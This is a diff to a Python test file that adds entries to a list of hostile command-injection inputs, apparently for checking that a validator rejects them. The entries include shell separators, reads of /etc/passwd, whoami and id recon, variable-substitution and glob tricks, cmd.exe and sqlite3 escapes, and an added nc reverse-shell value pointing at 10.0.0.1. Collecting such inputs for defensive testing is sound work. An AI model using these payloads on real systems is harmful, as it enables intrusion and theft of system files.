@@ -97,14 +97,14 @@ def test_hostile_sizes_are_bounded():
     # `+` read as a space even when the value has spaces (decoded once more by the application)
     "&&+|+dir c:\\", "a;+cat+/etc/passwd and more",
     # a literal backslash-n where a line break was meant
-    "\\n/usr/bin/id\\n", "|usr/bin/id\\n", "\\nid;",
+    "\\n/usr/bin/id\\n", "|usr/bin/id\\n", "\\nid;", "\";\\\\n. shell nc 10.0.0.1 6666 -e sh\\\\n",
     # a recon command and a separator that ends the value
     "id;", "id|", "uname&",
     # ${PATH:0:1} is "/"
     "${PATH:0:1}bin${PATH:0:1}sh", "cat ${HOME:0:1}etc${HOME:0:1}passwd",
     # alias definitions, sqlite3 dot-commands, programs written with their directory
     "alias a=b", "alias +m a=b", "1;.shell whoami", "1;.\\\"shell whoami\n", "x;. system uname -a",
-    ";/usr/bin/anything", "/bin/ab",
+    ";/usr/bin/anything", "/bin/ab", "/bin/c?t /etc/p?sswd", "%COMSPEC% /c whoami",
     # cmd.exe FOR with a bare %% slot, and after a `;` (a blank to cmd)
     "FOR /F \"tokens=1,2* delims=,\" %% IN (C:\\x.txt) DO ECHO %%", ";for /f %i in ('cmd /c dir') do @set x=%i",
 ])
